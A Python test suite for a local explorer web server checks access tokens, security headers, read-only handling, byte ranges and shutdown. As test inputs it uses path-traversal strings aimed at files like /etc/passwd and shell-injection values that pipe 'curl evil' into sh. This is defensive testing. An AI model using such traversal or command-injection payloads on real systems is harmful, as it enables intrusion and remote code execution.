"""The server: who is let in, what is handed out, and what never is."""

from __future__ import annotations

import http.client
import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
import threading
from urllib.parse import urlsplit
from urllib.request import urlopen

import pytest

from theodolite import read_run
from theodolite.explorer.content import Content
from theodolite.explorer.live import Live

pytest.importorskip("starlette", reason="starlette is not installed")


@pytest.fixture(scope="module")
def address(made, serving):
    return urlsplit(serving([Content(read_run(made("survey")))]))


@pytest.fixture
def ask(address):
    """Send one request exactly as it is written: no client tidies its path."""

    def request(path, method="GET", body=None, **headers):
        connection = http.client.HTTPConnection(address.hostname, address.port, timeout=20)
        connection.putrequest(method, path, skip_host="Host" in headers)
        if body is not None:
            headers["Content-Length"] = str(len(body))
        for name, value in headers.items():
            connection.putheader(name.replace("_", "-"), value)
        connection.endheaders(body)
        answer = connection.getresponse()
        content = answer.read()
        connection.close()
        return answer, content

    return request


@pytest.mark.parametrize(
    "path", ["/", "/runs.json", "/test-toke/runs.json", "/test-token", "/Test-Token/", "//", "/%74est-token"]
)
def test_nothing_is_told_without_the_token(ask, path):
    answer, content = ask(path)
    assert answer.status == 403
    assert b"survey" not in content


def test_a_page_that_another_name_leads_to_is_refused(ask):
    answer, _ = ask("/test-token/runs.json", Host="evil.example:80")
    assert answer.status == 403


def test_every_answer_forbids_the_browser_to_fetch_from_elsewhere(ask):
    for path in ("/test-token/", "/test-token/runs.json", "/test-token/runs/0/about.json", "/nothing"):
        answer, _ = ask(path)
        policy = answer.getheader("Content-Security-Policy")
        assert policy.startswith("default-src 'none'")
        assert "unsafe" not in policy
        assert "http" not in policy
        assert answer.getheader("X-Content-Type-Options") == "nosniff"
        assert answer.getheader("Referrer-Policy") == "no-referrer"


@pytest.mark.parametrize(
    "part",
    [
        "run.json",
        "arrays.safetensors",
        "report.html",
        "../survey/run.json",
        "..%2frun.json",
        "pictures/../run.json",
        "pictures/..%2f..%2frun.json",
        "pictures/..%2frun.json%00.png",
        "pictures/%2fetc%2fpasswd.png",
        "pictures/.png",
        "pictures/astronaut-badge.png/../../run.json",
        "sheet-99.jpg",
        "sheet--1.jpg",
        "sheet-%D9%A3.jpg",  # a digit of another script
    ],
)
def test_nothing_is_read_that_the_page_has_no_name_for(ask, part):
    answer, content = ask(f"/test-token/runs/0/{part}")
    assert answer.status in (400, 404)
    assert b"fingerprint" not in content


@pytest.mark.parametrize(
    "path",
    [
        "/test-token/index.html",
        "/test-token/bundle.json",
        "/test-token/..%2fserver.py",
        "/test-token/runs/7/about.json",
    ],
)
def test_no_other_file_of_the_package_is_handed_out(ask, path):
    assert ask(path)[0].status == 404


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH"])
def test_nothing_can_be_written(ask, method):
    assert ask("/test-token/runs/0/about.json", method, b"{}")[0].status == 405


def test_a_table_is_read_by_ranges(ask):
    _, whole = ask("/test-token/runs/0/frame.parquet")
    answer, tail = ask("/test-token/runs/0/frame.parquet", Range="bytes=-8")
    assert answer.status == 206
    assert tail == whole[-8:]
    assert answer.getheader("Content-Range") == f"bytes {len(whole) - 8}-{len(whole) - 1}/{len(whole)}"
    assert ask("/test-token/runs/0/frame.parquet", Range="bytes=4-11")[1] == whole[4:12]
    assert ask("/test-token/runs/0/frame.parquet", Range=f"bytes={len(whole)}-")[0].status == 416
    assert ask("/test-token/runs/0/frame.parquet", Range="bytes=9-2")[0].status == 416
    assert ask("/test-token/runs/0/frame.parquet", Range="lines=1-2")[0].status == 200


def test_the_live_panel_is_shut_where_no_model_was_given(ask):
    answer, content = ask("/test-token/live", "POST", b"{}", Content_Type="application/json")
    assert answer.status == 404
    assert json.loads(content)["error"] == "no model was given"


def test_pictures_that_lead_elsewhere_are_not_followed(made, tmp_path):
    folder = tmp_path / "run"
    shutil.copytree(made("survey"), folder)
    run = read_run(folder)
    first, second, third = run.units[:3]
    secret = tmp_path / "secret.png"
    shutil.copy(run.picture(first), secret)
    for unit, content in ((second, b"<html><script>"), (third, b"")):
        (folder / "pictures" / f"{unit}.png").write_bytes(content)
    (folder / "pictures" / f"{first}.png").unlink()
    os.symlink(secret, folder / "pictures" / f"{first}.png")
    content = Content(read_run(folder))
    for unit in (first, second, third):
        with pytest.raises(KeyError):
            content.read(f"pictures/{unit}.png")
    assert content.read("sheet-0.jpg")[0] == "image/jpeg"  # with gaps


def test_a_run_that_goes_on_is_read_again_with_every_page(made, serving, tmp_path):
    folder = tmp_path / "run"
    shutil.copytree(made("survey"), folder)
    whole = (folder / "run.json").read_text()
    info = json.loads(whole)
    (folder / "run.json").write_text(json.dumps({**info, "status": "interrupted", "units": info["units"][:4]}))
    address = serving([Content(read_run(folder))])

    def rows():
        for part in ("runs.json", "runs/0/about.json"):  # in the order in which a page asks
            with urlopen(f"{address}{part}", timeout=20) as answer:
                told = json.load(answer)
        return told["status"], told["frame"]["rows"]

    assert rows() == ("interrupted", 4)
    (folder / "run.json").write_text(whole)
    assert rows() == ("complete", 6)


def test_a_run_without_its_arrays_still_shows_its_numbers(made, tmp_path):
    folder = tmp_path / "run"
    shutil.copytree(made("survey"), folder)
    (folder / "arrays.safetensors").unlink()
    content = Content(read_run(folder))
    assert content.views == ["scatter", "gallery", "table"]
    assert json.loads(content.read("about.json")[1])["frame"]["rows"] == 6


def test_the_command_that_measures_again_is_our_own_whatever_a_run_says(made):
    run = read_run(made("survey"))

    def only(**changed):
        content = Content(read_run(made("survey")))
        content.run.info.update(changed)
        return json.loads(content.read("about.json")[1])["only"]

    own = only()
    assert own.startswith("theodolite survey zoo:patches-kl --data ")
    assert shlex.split(own)[-2:] == ["--out", f"{run.path}-selection"]
    assert "--limit" not in own
    assert only(command="bash -c 'curl evil | sh'") == own
    evil = "x; $(curl evil) `id` | sh '&"
    assert shlex.split(only(arguments={"model": evil}))[2] == evil
    assert evil in shlex.split(only(settings={**run.settings, "data": evil}))
    assert only(arguments={"model": "--log=wandb:evil"}) is None
    assert only(arguments={"model": "x\x1b[201~\ncurl evil"}) is None
    assert only(arguments={"model": {"a": 1}}) is None
    assert only(settings={}) is None


def test_the_signal_to_end_does_not_wait_for_the_model(monkeypatch):
    """A model that computes for a minute: without the signal its answer would be another one."""
    from theodolite.explorer.server import application, bound, ending_with

    hung = "import time; input(); print('{}', flush=True); input(); time.sleep(60); print('{\"late\": 1}', flush=True)"
    real, started = subprocess.Popen, threading.Event()

    def popen(command, **options):
        process = real([sys.executable, "-c", hung], **options)
        started.set()
        return process

    monkeypatch.setattr("theodolite.explorer.live.subprocess.Popen", popen)
    live, listener, answers = Live("zoo:digits", None, []), bound(0), []
    server = ending_with(live, application([], "token", {(host := f"127.0.0.1:{listener.getsockname()[1]}")}, live))

    def ask():
        connection = http.client.HTTPConnection(host, timeout=120)
        connection.request("POST", "/token/live", b"{}", {"Content-Type": "application/json"})
        answers.append(json.loads(connection.getresponse().read()))
        connection.close()

    threads = [threading.Thread(target=server.run, kwargs={"sockets": [listener]}), threading.Thread(target=ask)]
    for thread in threads:
        thread.start()
    assert started.wait(60)
    server.handle_exit(signal.SIGINT, None)
    for thread in threads:
        thread.join(120)
    assert answers == [{"error": "the explorer ends, and the model with it"}]
    assert live.ask({}) == answers[0]  # and none starts again


def test_a_damaged_run_is_one_line_for_the_page(made, serving, tmp_path):
    folder = tmp_path / "run"
    shutil.copytree(made("survey"), folder)
    contents = [Content(read_run(folder))]
    (folder / "quantities.parquet").write_bytes(b"PAR1 and nothing else")
    address = urlsplit(serving(contents))
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=20)
    connection.request("GET", f"{address.path}runs/0/about.json")
    answer = connection.getresponse()
    assert answer.status == 409
    assert json.loads(answer.read())["error"].startswith("broken")
    connection.close()
